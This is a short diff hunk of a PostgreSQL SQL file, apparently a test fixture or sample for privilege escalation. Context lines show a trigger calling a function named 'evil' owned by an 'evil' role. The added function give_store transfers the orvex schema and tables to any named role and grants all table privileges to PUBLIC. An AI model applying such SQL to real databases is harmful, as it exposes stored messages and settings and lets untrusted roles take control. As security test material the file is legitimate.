@@ -21,3 +21,11 @@ END $$;
 ALTER FUNCTION public.evil OWNER TO evil;
 CREATE OR REPLACE FUNCTION public.trigger() RETURNS trigger LANGUAGE plpgsql
     AS $$ BEGIN PERFORM public.evil(); RETURN NEW; END $$;
+CREATE OR REPLACE FUNCTION public.give_store(receiver text) RETURNS void LANGUAGE plpgsql AS $$
+BEGIN
+    EXECUTE format('ALTER SCHEMA orvex OWNER TO %I', receiver);
+    EXECUTE format('ALTER TABLE orvex.messages OWNER TO %I', receiver);
+    EXECUTE format('ALTER TABLE orvex.settings OWNER TO %I', receiver);
+    GRANT USAGE ON SCHEMA orvex TO PUBLIC;
+    GRANT ALL ON ALL TABLES IN SCHEMA orvex TO PUBLIC;
+END $$;
